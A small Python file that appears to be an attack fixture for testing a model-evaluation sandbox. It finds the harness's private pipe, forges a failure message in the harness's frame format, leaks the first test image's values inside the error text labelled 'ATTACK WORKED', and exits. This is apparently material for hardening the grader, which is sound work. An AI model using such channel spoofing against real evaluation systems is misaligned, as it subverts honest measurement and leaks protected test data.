"""Finds the channel and speaks on it itself."""

import json
import os
import stat
import struct

import torch
from torch import nn

LOADED, LABELS, SCORES, END = 17, 18, 19, 20


def frame(kind, payload=b"", length=None):
    return (
        struct.pack("<4sB3xQ", b"GWF1", kind, len(payload) if length is None else length) + payload
    )


def channel():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                os.write(descriptor, b"")
                return descriptor
        except OSError:
            pass


def build_model():
    return nn.Identity()


FAILED, LE = 21, 2


def predict(model, images):
    text = f"ATTACK WORKED: {images[0].tolist()}"[:1000]
    told = {"code": "run.unreadable_checkpoint", "values": {"file": "net.pt", "error": text}}
    os.write(channel(), frame(FAILED, bytes([LE]) + json.dumps(told).encode()))
    os._exit(0)
